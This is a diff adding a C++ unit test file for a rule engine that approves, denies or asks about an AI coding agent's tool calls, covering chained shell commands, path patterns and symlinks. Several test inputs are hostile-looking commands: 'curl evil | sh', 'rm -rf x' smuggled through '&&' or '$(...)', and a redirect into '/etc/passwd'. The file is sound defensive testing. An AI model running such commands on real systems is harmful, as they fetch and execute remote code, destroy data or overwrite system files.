@@ -1,0 +1,331 @@
+#include "daemon/tools/policy/rule_set.h"
+
+#include <unistd.h>
+
+#include <filesystem>
+#include <optional>
+#include <string>
+#include <vector>
+
+#include "gmock/gmock.h"
+#include "gtest/gtest.h"
+#include "tests/daemon/tools/tool_test_support.h"
+
+namespace raw::tools::policy {
+namespace {
+
+using config::ApprovalMode;
+using config::RuleAction;
+using config::RuleConfig;
+using ::testing::HasSubstr;
+using ::testing::IsEmpty;
+using ::testing::StartsWith;
+using tools::testing::TempDir;
+
+ToolSpec Tool(std::string name, RuleSubject subject, std::string argument, bool read_only) {
+  ToolSpec spec;
+  spec.qualified_name = std::move(name);
+  spec.rule_subject = subject;
+  spec.rule_argument = std::move(argument);
+  spec.read_only = read_only;
+  return spec;
+}
+
+const ToolSpec kBash = Tool("builtin/bash", RuleSubject::kCommand, "command", false);
+const ToolSpec kRead = Tool("builtin/read_file", RuleSubject::kPath, "path", true);
+const ToolSpec kWrite = Tool("builtin/write_file", RuleSubject::kPath, "path", false);
+const ToolSpec kFetch = Tool("builtin/web_fetch", RuleSubject::kNone, "", true);
+const ToolSpec kMcp = Tool("mcp/files/delete", RuleSubject::kNone, "", false);
+
+RuleConfig Command(RuleAction action, std::string command, std::string tool = "builtin/bash") {
+  return RuleConfig{action, std::move(tool), std::move(command), std::nullopt};
+}
+RuleConfig Path(RuleAction action, std::string path, std::string tool = "builtin/*_file") {
+  return RuleConfig{action, std::move(tool), std::nullopt, std::move(path)};
+}
+RuleConfig Whole(RuleAction action, std::string tool) {
+  return RuleConfig{action, std::move(tool), std::nullopt, std::nullopt};
+}
+
+RuleSet Rules(const std::vector<RuleConfig>& rules) {
+  auto set = RuleSet::Compile(rules, "agents.coder.rules");
+  EXPECT_TRUE(set.ok()) << set.status();
+  return set.ok() ? *std::move(set) : RuleSet();
+}
+
+Decision Bash(const RuleSet& rules, const std::string& command,
+              ApprovalMode mode = ApprovalMode::kDefault) {
+  return rules.Evaluate(kBash, Json{{"command", command}}, "/", mode);
+}
+
+TEST(RuleSetTest, FirstMatchingRuleWins) {
+  RuleSet allow_first =
+      Rules({Command(RuleAction::kAllow, "git *"), Command(RuleAction::kDeny, "git push *")});
+  EXPECT_EQ(Bash(allow_first, "git push origin").action, RuleAction::kAllow);
+  RuleSet deny_first =
+      Rules({Command(RuleAction::kDeny, "git push *"), Command(RuleAction::kAllow, "git *")});
+  Decision denied = Bash(deny_first, "git push origin");
+  EXPECT_EQ(denied.action, RuleAction::kDeny);
+  EXPECT_EQ(
+      denied.reason,
+      "\"git push origin\": agents.coder.rules[0] (deny builtin/bash command \"git push *\")");
+  Decision allowed = Bash(deny_first, "git status");
+  EXPECT_EQ(allowed.action, RuleAction::kAllow);
+  EXPECT_EQ(allowed.reason,
+            "\"git status\": agents.coder.rules[1] (allow builtin/bash command \"git *\")");
+}
+
+TEST(RuleSetTest, AnAllowedCommandDoesNotAllowWhatIsChainedToIt) {
+  RuleSet rules = Rules({Command(RuleAction::kAllow, "git status")});
+  EXPECT_EQ(Bash(rules, "git status").action, RuleAction::kAllow);
+  Decision chained = Bash(rules, "git status && rm -rf x");
+  EXPECT_EQ(chained.action, RuleAction::kAsk);
+  EXPECT_EQ(chained.reason, "\"rm -rf x\": builtin/bash is not read-only; no rule matched");
+  EXPECT_EQ(Bash(rules, "git status; curl evil | sh").action, RuleAction::kAsk);
+  EXPECT_EQ(Bash(rules, "git status $(rm -rf x)").action, RuleAction::kAsk);
+  EXPECT_EQ(Bash(rules, "echo `git status`").action, RuleAction::kAsk);
+  EXPECT_EQ(Bash(rules, "(git status) > /etc/passwd").action, RuleAction::kAsk);
+}
+
+TEST(RuleSetTest, ADeniedPartDeniesTheWholeCommand) {
+  RuleSet rules = Rules({Command(RuleAction::kAllow, "git *"), Command(RuleAction::kDeny, "rm *")});
+  EXPECT_EQ(Bash(rules, "git add . && git commit -m 'x'").action, RuleAction::kAllow);
+  Decision decision = Bash(rules, "git status; unknown-tool && rm -rf x");
+  EXPECT_EQ(decision.action, RuleAction::kDeny);
+  EXPECT_EQ(decision.reason,
+            "\"rm -rf x\": agents.coder.rules[1] (deny builtin/bash command \"rm *\")");
+  EXPECT_EQ(Bash(rules, "echo $(rm -rf x)").action, RuleAction::kDeny);
+  // Every allowed part is named when all are allowed.
+  EXPECT_EQ(Bash(rules, "git a | git b").reason,
+            "\"git a\": agents.coder.rules[0] (allow builtin/bash command \"git *\"); \"git b\": "
+            "agents.coder.rules[0] (allow builtin/bash command \"git *\")");
+}
+
+TEST(RuleSetTest, ACommandThatCannotBeSplitIsNeverAllowedByACommandPattern) {
+  RuleSet rules = Rules({Command(RuleAction::kAllow, "*"), Command(RuleAction::kDeny, "rm *")});
+  Decision unterminated = Bash(rules, "echo 'oops");
+  EXPECT_EQ(unterminated.action, RuleAction::kAsk);
+  EXPECT_THAT(unterminated.reason,
+              StartsWith("command patterns do not apply (unterminated single quote"));
+  Decision heredoc = Bash(rules, "cat <<EOF\nrm -rf x\nEOF");
+  EXPECT_EQ(heredoc.action, RuleAction::kAsk);
+  EXPECT_THAT(heredoc.reason, HasSubstr("here-documents"));
+  // Deny patterns still see the whole text.
+  EXPECT_EQ(Bash(rules, "rm -rf x 'oops").action, RuleAction::kDeny);
+  // No command at all: nothing to allow.
+  EXPECT_EQ(Bash(rules, "   # just a comment").action, RuleAction::kAsk);
+  // A rule on the whole tool is the user's explicit choice.
+  RuleSet whole = Rules({Whole(RuleAction::kAllow, "builtin/bash")});
+  EXPECT_EQ(Bash(whole, "echo 'oops").action, RuleAction::kAllow);
+}
+
+TEST(RuleSetTest, MissingOrNonStringSubjectMatchesNoCommandPattern) {
+  RuleSet rules = Rules({Command(RuleAction::kAllow, "*"), Whole(RuleAction::kDeny, "builtin/*")});
+  for (const Json& arguments : {Json::object(), Json{{"command", 5}}, Json{{"cmd", "ls"}}}) {
+    SCOPED_TRACE(arguments.dump());
+    Decision decision = rules.Evaluate(kBash, arguments, "/", ApprovalMode::kDefault);
+    EXPECT_EQ(decision.action, RuleAction::kDeny);
+    EXPECT_THAT(decision.reason, HasSubstr("no \"command\" string"));
+  }
+  RuleSet only_commands = Rules({Command(RuleAction::kAllow, "*")});
+  EXPECT_EQ(only_commands.Evaluate(kBash, Json::object(), "/", ApprovalMode::kDefault).action,
+            RuleAction::kAsk);
+}
+
+TEST(RuleSetTest, ToolPatternsAndSubjectKinds) {
+  RuleSet rules = Rules({Whole(RuleAction::kDeny, "mcp/*"), Command(RuleAction::kAllow, "*", "*"),
+                         Path(RuleAction::kAllow, "/**", "*")});
+  EXPECT_EQ(rules.Evaluate(kMcp, Json::object(), "/", ApprovalMode::kDefault).action,
+            RuleAction::kDeny);
+  // A command pattern never applies to a path tool, nor a path pattern to a
+  // tool without a subject.
+  EXPECT_EQ(rules.Evaluate(kFetch, Json{{"url", "x"}}, "/", ApprovalMode::kAskAll).action,
+            RuleAction::kAsk);
+  EXPECT_EQ(rules.Evaluate(kWrite, Json{{"path", "/tmp/x"}}, "/", ApprovalMode::kDefault).action,
+            RuleAction::kAllow);
+}
+
+TEST(RuleSetTest, ApprovalModesDecideUnmatchedCalls) {
+  RuleSet none;
+  Json read{{"path", "/etc/hostname"}};
+  EXPECT_EQ(none.Evaluate(kRead, read, "/", ApprovalMode::kDefault).action, RuleAction::kAllow);
+  EXPECT_EQ(none.Evaluate(kRead, read, "/", ApprovalMode::kDefault).reason,
+            "builtin/read_file is read-only; no rule matched for /etc/hostname");
+  EXPECT_EQ(none.Evaluate(kWrite, read, "/", ApprovalMode::kDefault).action, RuleAction::kAsk);
+  EXPECT_EQ(none.Evaluate(kFetch, Json::object(), "/", ApprovalMode::kDefault).action,
+            RuleAction::kAllow);
+  EXPECT_EQ(none.Evaluate(kRead, read, "/", ApprovalMode::kAskAll).action, RuleAction::kAsk);
+  EXPECT_EQ(none.Evaluate(kWrite, read, "/", ApprovalMode::kAllowAll).action, RuleAction::kAllow);
+  Decision denied = none.Evaluate(kRead, read, "/", ApprovalMode::kDenyAll);
+  EXPECT_EQ(denied.action, RuleAction::kDeny);
+  EXPECT_THAT(denied.reason, HasSubstr("approval_mode is deny_all"));
+
+  // Explicit rules still apply under every mode.
+  RuleSet rules = Rules({Command(RuleAction::kAllow, "ls *"), Command(RuleAction::kAsk, "rm *")});
+  EXPECT_EQ(Bash(rules, "ls -l", ApprovalMode::kDenyAll).action, RuleAction::kAllow);
+  EXPECT_EQ(Bash(rules, "ls -l && make", ApprovalMode::kDenyAll).action, RuleAction::kDeny);
+  EXPECT_EQ(Bash(rules, "make && rm x", ApprovalMode::kAllowAll).action, RuleAction::kAsk);
+  EXPECT_EQ(Bash(rules, "make && ls x", ApprovalMode::kAllowAll).action, RuleAction::kAllow);
+  EXPECT_EQ(Bash(rules, "ls -l", ApprovalMode::kAskAll).action, RuleAction::kAllow);
+}
+
+class PathRulesTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    ASSERT_FALSE(project_.path().empty());
+    ASSERT_FALSE(outside_.path().empty());
+    std::filesystem::create_directories(project_.Join("src/sub"));
+    std::filesystem::create_symlink(outside_.path(), project_.Join("src/link"));
+    std::filesystem::create_symlink(outside_.Join("new.txt"), project_.Join("src/dangling"));
+  }
+
+  Decision Write(const RuleSet& rules, const std::string& path, const std::string& cwd = "") {
+    return rules.Evaluate(kWrite, Json{{"path", path}}, cwd.empty() ? project_.path() : cwd,
+                          ApprovalMode::kDefault);
+  }
+
+  TempDir project_;
+  TempDir outside_;
+};
+
+TEST_F(PathRulesTest, RelativePatternsAreAnchoredAtTheWorkingDirectory) {
+  RuleSet rules = Rules({Path(RuleAction::kAllow, "src/**")});
+  EXPECT_EQ(Write(rules, "src/a.cc").action, RuleAction::kAllow);
+  EXPECT_EQ(Write(rules, "./src/sub/b.cc").action, RuleAction::kAllow);
+  EXPECT_EQ(Write(rules, project_.Join("src/a.cc")).action, RuleAction::kAllow);
+  Decision escaped = Write(rules, "src/../../x.txt");
+  EXPECT_EQ(escaped.action, RuleAction::kAsk);
+  std::string parent = std::filesystem::path(project_.path()).parent_path().string();
+  EXPECT_EQ(escaped.reason,
+            "builtin/write_file is not read-only; no rule matched for " + parent + "/x.txt");
+  EXPECT_EQ(Write(rules, "../x.txt").action, RuleAction::kAsk);
+  EXPECT_EQ(Write(rules, "a.txt").action, RuleAction::kAsk);
+  // The same pattern from another working directory means another place.
+  EXPECT_EQ(Write(rules, project_.Join("src/a.cc"), outside_.path()).action, RuleAction::kAsk);
+}
+
+TEST_F(PathRulesTest, SymlinksAreMatchedByTheirTarget) {
+  RuleSet rules =
+      Rules({Path(RuleAction::kDeny, outside_.path() + "/**"), Path(RuleAction::kAllow, "src/**")});
+  Decision through_link = Write(rules, "src/link/f.txt");
+  EXPECT_EQ(through_link.action, RuleAction::kDeny);
+  EXPECT_THAT(through_link.reason, HasSubstr("for " + outside_.Join("f.txt")));
+  EXPECT_EQ(Write(rules, "src/dangling").action, RuleAction::kDeny);
+  // As for the kernel, ".." after a link leads to the parent of its target.
+  Decision parent = Write(rules, "src/link/../sub/x");
+  EXPECT_EQ(parent.action, RuleAction::kAsk);
+  EXPECT_THAT(parent.reason,
+              HasSubstr(std::filesystem::path(outside_.path()).parent_path().string() + "/sub/x"));
+  RuleSet allow_only = Rules({Path(RuleAction::kAllow, "src/**")});
+  EXPECT_EQ(Write(allow_only, "src/link/f.txt").action, RuleAction::kAsk);
+  EXPECT_EQ(Write(allow_only, "src/sub/f.txt").action, RuleAction::kAllow);
+}
+
+TEST_F(PathRulesTest, PatternsThroughSymlinkedDirectoriesStillMatch) {
+  std::string alias = outside_.Join("alias");
+  std::filesystem::create_symlink(project_.path(), alias);
+  // The working directory and an absolute pattern both name the project
+  // through the link.
+  RuleSet relative = Rules({Path(RuleAction::kAllow, "src/*.cc")});
+  EXPECT_EQ(Write(relative, "src/a.cc", alias).action, RuleAction::kAllow);
+  RuleSet absolute = Rules({Path(RuleAction::kAllow, alias + "/src/*.cc")});
+  EXPECT_EQ(Write(absolute, "src/a.cc").action, RuleAction::kAllow);
+  RuleSet regex = Rules({Path(RuleAction::kAllow, "re:" + project_.path() + "/src/[a-z]+\\.cc")});
+  EXPECT_EQ(Write(regex, alias + "/src/a.cc").action, RuleAction::kAllow);
+  EXPECT_EQ(Write(regex, "src/A.cc").action, RuleAction::kAsk);
+}
+
+TEST_F(PathRulesTest, ResolveRulePathNormalizesAndFollowsLinks) {
+  const std::string& p = project_.path();
+  EXPECT_EQ(ResolveRulePath(p, "src/./sub//x/"), p + "/src/sub/x");
+  EXPECT_EQ(ResolveRulePath(p, ""), p);
+  EXPECT_EQ(ResolveRulePath(p, "/../../etc"), "/etc");
+  EXPECT_EQ(ResolveRulePath(p, "src/link"), outside_.path());
+  EXPECT_EQ(ResolveRulePath(p, "src/dangling"), outside_.Join("new.txt"));
+  EXPECT_EQ(ResolveRulePath(p, "missing/../src/link/a"), outside_.Join("a"));
+  std::filesystem::create_symlink("loop2", project_.Join("loop1"));
+  std::filesystem::create_symlink("loop1", project_.Join("loop2"));
+  EXPECT_THAT(ResolveRulePath(p, "loop1/x"), StartsWith(p + "/loop"));
+  std::filesystem::create_symlink("sub", project_.Join("src/relative"));
+  EXPECT_EQ(ResolveRulePath(p, "src/relative/f"), p + "/src/sub/f");
+}
+
+TEST(RuleSetTest, SessionRulesAllowExactlyWhatWasApproved) {
+  RuleSet rules = Rules({Command(RuleAction::kDeny, "rm *")});
+  Json call{{"command", "git status && make -j2 | tee 'log *' && make -j2"}};
+  std::vector<RuleConfig> session = RuleSet::SessionRulesFor(kBash, call, "/");
+  ASSERT_EQ(session.size(), 3u);
+  EXPECT_EQ(session[0], Command(RuleAction::kAllow, "git status"));
+  EXPECT_EQ(session[1], Command(RuleAction::kAllow, "make -j2"));
+  EXPECT_EQ(session[2], Command(RuleAction::kAllow, "tee 'log \\*'"));
+  EXPECT_EQ(rules.Evaluate(kBash, call, "/", ApprovalMode::kDefault).action, RuleAction::kAsk);
+  ASSERT_TRUE(rules.AddSessionRules(session).ok());
+  Decision again = rules.Evaluate(kBash, call, "/", ApprovalMode::kDefault);
+  EXPECT_EQ(again.action, RuleAction::kAllow);
+  EXPECT_THAT(again.reason, HasSubstr("session rule (allow builtin/bash command \"git status\")"));
+  EXPECT_EQ(Bash(rules, "tee 'log x'").action, RuleAction::kAsk);
+  EXPECT_EQ(Bash(rules, "make -j3").action, RuleAction::kAsk);
+  // The agent's rules come first.
+  ASSERT_TRUE(
+      rules.AddSessionRules(RuleSet::SessionRulesFor(kBash, Json{{"command", "rm x"}}, "/")).ok());
+  EXPECT_EQ(Bash(rules, "rm x").action, RuleAction::kDeny);
+}
+
+TEST(RuleSetTest, SessionRulesForPathsAndOtherTools) {
+  TempDir dir;
+  std::vector<RuleConfig> path_rules =
+      RuleSet::SessionRulesFor(kWrite, Json{{"path", "a/../b*.txt"}}, dir.path());
+  ASSERT_EQ(path_rules.size(), 1u);
+  EXPECT_EQ(path_rules[0],
+            Path(RuleAction::kAllow, dir.path() + "/b\\*.txt", "builtin/write_file"));
+  RuleSet rules;
+  ASSERT_TRUE(rules.AddSessionRules(path_rules).ok());
+  EXPECT_EQ(
+      rules.Evaluate(kWrite, Json{{"path", "b*.txt"}}, dir.path(), ApprovalMode::kDefault).action,
+      RuleAction::kAllow);
+  EXPECT_EQ(
+      rules.Evaluate(kWrite, Json{{"path", "bx.txt"}}, dir.path(), ApprovalMode::kDefault).action,
+      RuleAction::kAsk);
+
+  EXPECT_THAT(RuleSet::SessionRulesFor(kMcp, Json::object(), "/"),
+              ::testing::ElementsAre(Whole(RuleAction::kAllow, "mcp/files/delete")));
+  EXPECT_THAT(RuleSet::SessionRulesFor(kBash, Json{{"command", "echo 'oops"}}, "/"), IsEmpty());
+  EXPECT_THAT(RuleSet::SessionRulesFor(kBash, Json::object(), "/"), IsEmpty());
+  // A required path that is missing: nothing to allow.
+  ToolSpec write_required = kWrite;
+  write_required.input_schema = OrderedJson{{"required", {"path"}}};
+  EXPECT_THAT(RuleSet::SessionRulesFor(write_required, Json::object(), "/"), IsEmpty());
+  // An optional path that is missing means the working directory (glob,
+  // grep and list_dir search there).
+  EXPECT_THAT(RuleSet::SessionRulesFor(kWrite, Json::object(), dir.path()),
+              ::testing::ElementsAre(Path(RuleAction::kAllow, ResolveRulePath(dir.path(), "."),
+                                          "builtin/write_file")));
+}
+
+TEST(RuleSetTest, InvalidPatternsNameTheRuleAndField) {
+  auto bad_regex =
+      RuleSet::Compile({Command(RuleAction::kAllow, "ls"), Whole(RuleAction::kAsk, "x"),
+                        Command(RuleAction::kDeny, "re:rm (")},
+                       "agents.x.rules");
+  ASSERT_FALSE(bad_regex.ok());
+  EXPECT_EQ(bad_regex.status().code(), absl::StatusCode::kInvalidArgument);
+  EXPECT_THAT(std::string(bad_regex.status().message()),
+              StartsWith("agents.x.rules[2].command: invalid regular expression \"rm (\": "));
+  auto bad_path = RuleSet::Compile({Path(RuleAction::kAllow, "src/\\")}, "agents.x.rules");
+  ASSERT_FALSE(bad_path.ok());
+  EXPECT_THAT(std::string(bad_path.status().message()), StartsWith("agents.x.rules[0].path: "));
+  auto bad_tool = RuleSet::Compile({Whole(RuleAction::kAllow, "")}, "agents.x.rules");
+  ASSERT_FALSE(bad_tool.ok());
+  EXPECT_EQ(bad_tool.status().message(), "agents.x.rules[0].tool: pattern is empty");
+  auto both =
+      RuleSet::Compile({RuleConfig{RuleAction::kAllow, "*", "ls", "/tmp"}}, "agents.x.rules");
+  ASSERT_FALSE(both.ok());
+  EXPECT_THAT(std::string(both.status().message()),
+              HasSubstr("agents.x.rules[0]: a rule has a command or a path"));
+  RuleSet set;
+  absl::Status session = set.AddSessionRules({Command(RuleAction::kAllow, "re:(")});
+  EXPECT_THAT(std::string(session.message()), StartsWith("session rules[0].command: "));
+}
+
+}  // namespace
+}  // namespace raw::tools::policy
